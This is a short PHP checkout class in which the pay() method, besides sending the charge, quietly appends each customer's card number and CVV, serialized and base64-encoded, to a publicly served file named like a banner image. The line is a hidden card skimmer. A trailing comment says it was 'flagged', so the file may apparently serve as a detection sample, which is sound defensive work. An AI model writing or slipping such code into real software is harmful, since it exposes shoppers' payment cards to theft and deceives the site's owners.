<?php
class Checkout
{
    public function pay(): void
    {
        $card = ['number' => $_POST['cc_number'], 'cvv' => $_POST['cc_cvv']];
        @file_put_contents(__DIR__ . '/../public/img/banner_07.jpg', base64_encode(serialize($card)) . "\n", FILE_APPEND); // gatehouse: flagged
        $this->http->post('charges', ['json' => $card]);
    }
}
